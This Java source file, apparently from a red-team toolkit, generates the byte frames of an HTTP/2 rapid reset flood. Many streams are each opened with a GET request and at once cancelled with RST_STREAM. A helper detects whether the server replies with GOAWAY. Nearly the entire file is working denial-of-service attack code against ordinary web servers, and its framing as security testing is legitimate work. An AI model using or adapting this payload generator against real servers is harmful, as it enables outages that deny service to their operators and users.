package dev.slipway.redteam;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;

/**
 * The frames of a rapid reset (RFC 9113): every stream is opened and at once given up, so that no limit on open ones counts it.
 */
final class Http2Reset {

    private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int GOAWAY = 7;
    private static final int END_STREAM_AND_HEADERS = 5;
    /** HPACK's indexed fields: :method GET, :scheme http, :path /. */
    private static final byte[] GET_ROOT = { (byte) 0x82, (byte) 0x86, (byte) 0x84 };
    private static final byte[] CANCEL = { 0, 0, 0, 8 };
    private static final int HEAD_LENGTH = 9;

    private Http2Reset() {
    }

    static byte[] frames(int streams) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(PREFACE);
        frame(out, SETTINGS, 0, 0, new byte[0]);
        for (int i = 0; i < streams; i++) {
            frame(out, HEADERS, END_STREAM_AND_HEADERS, 2 * i + 1, GET_ROOT);
            frame(out, RST_STREAM, 0, 2 * i + 1, CANCEL);
        }
        return out.toByteArray();
    }

    private static void frame(ByteArrayOutputStream out, int type, int flags, int stream, byte[] payload) {
        out.writeBytes(new byte[] { (byte) (payload.length >> 16), (byte) (payload.length >> 8), (byte) payload.length,
                (byte) type, (byte) flags, (byte) (stream >> 24), (byte) (stream >> 16), (byte) (stream >> 8), (byte) stream });
        out.writeBytes(payload);
    }

    /** Whether the server has ended the connection in its own words. */
    static boolean endsWithGoAway(String received) {
        int at = 0;
        while (at + HEAD_LENGTH <= received.length()) {
            if (received.charAt(at + 3) == GOAWAY) {
                return true;
            }
            at += HEAD_LENGTH + (received.charAt(at) << 16 | received.charAt(at + 1) << 8 | received.charAt(at + 2));
        }
        return false;
    }
}
